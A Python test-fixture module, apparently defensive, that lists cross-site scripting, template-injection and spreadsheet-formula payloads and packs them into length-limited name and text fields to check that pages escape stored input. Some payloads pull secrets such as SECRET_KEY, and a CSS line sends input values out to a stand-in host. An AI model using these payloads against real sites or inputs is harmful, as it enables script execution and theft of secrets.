"""Texts that try to run in whatever page shows them (threats S4), and how many of them a field holds."""

from __future__ import annotations

from collections.abc import Sequence

# What a template of anybody's would make of `9931*9931`: more digits than a moment has.
SUM = "98624761"
# What of a payload would become of an element or an attribute of its own, if any page took it for markup.
MARK = "pwn"

# For names, of which some may have 60 characters only.
SHORT = (
    "<script>ran=1</script>",
    "'\"><svg onload=ran=1>",
    "<img src=x onerror=ran=1>",
    "\" autofocus onfocus=ran=1 x='",
    "' onmouseover=ran=1 pwn='",
    "{{9931*9931}}${9931*9931}",
    "<%=9931*9931%>#{9931*9931}",
    "javascript:ran=1",
    "--><b pwn>]]><b pwn>",
    "</title></textarea><b pwn>",
    "</script></style><b pwn>",
    '" hx-get="/" hx-trigger="load',
    "[x](javascript:ran=1)",
    "*{background:url(//e.test)}",
    "<a href=//e.test pwn>x</a>",
    "&lt;b pwn&gt;&#60;b pwn&#62;",
    "\\u003cb pwn\\u003e\\x3cb pwn\\x3e",
    "%3Cb%20pwn%3E",
    "<b/pwn\n>",
    "=cmd|'/C calc'!A0",
)
LONG = (
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s></svg>",
    "<svg><script href=data:,ran=1 /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
    "<details open ontoggle=ran=1>x</details>",
    "<body onload=ran=1><base href=//e.test/>",
    "<object data=javascript:ran=1></object><embed src=javascript:ran=1>",
    "<form action=//e.test><button formaction=javascript:ran=1 pwn>x</button></form>",
    "<div hx-get=/ hx-trigger=load hx-on::load='ran=1' hx-vals='js:{a:ran=1}'>x</div>",
    "<div data-hx-get=/ data-hx-trigger=load data-hx-on:click='ran=1'>x</div>",
    "<meta http-equiv=refresh content='0;//e.test'><link rel=stylesheet href=//e.test/x.css>",
    "![x](http://e.test/p.png) <javascript:ran=1> [x]: data:text/html,<b pwn>",
    "{{constructor.constructor('ran=1')()}} {{''.__class__.__mro__}} {{9931*9931}} {%now 'Y'%}",
    "{% load static %}{% include 'base.html' %}{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "</style><style>@import '//e.test';input[value^=a]{background:url(//e.test/a)}</style>",
    "vbscript:ran=1 data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg== java\tscript:ran=1",
    "'\"`</textarea></select></option></title></noscript></template><script>window.ran=1</script>",
    '{"a": "</script><script>ran=1</script>", "__proto__": {"ran": 1}}',
    "<!--[if gte IE 4]><script>ran=1</script><![endif]--> <![CDATA[<b pwn>]]> <?xml-stylesheet href=//e.test?>",
    "+ADw-script+AD4-ran+AD0-1+ADw-/script+AD4- \x1b[2J<script\x0b>ran=1</script>",
)
PAYLOADS = (*SHORT, *LONG)

# So many of each thing: together their shortest fields hold every short payload, and their long ones all the others.
ROUNDS = 7


def packed(payloads: Sequence[str], number: int, most: int, rounds: int = ROUNDS) -> str:
    """The payloads a field of so many characters holds in one of the rounds, beginning with another in each."""
    start = number * len(payloads) // rounds
    text = ""
    for one in (*payloads[start:], *payloads[:start]):
        if len(text) + len(one) > most:
            break
        text += one
    return text


def name(number: int, most: int = 100) -> str:
    """A hostile name, another in each round."""
    return f"{number}{packed(SHORT, number, most - 2)}"


def short_name(number: int, rounds: int, most: int = 60) -> str:
    """The same for a field that takes one printable line, over so many rounds."""
    return packed(SHORT, number, most, rounds).replace("\n", "")


def words(number: int, most: int = 300) -> str:
    """A hostile sentence, another in each round."""
    return packed(LONG, number, most) if most < 2000 else " ".join(PAYLOADS)
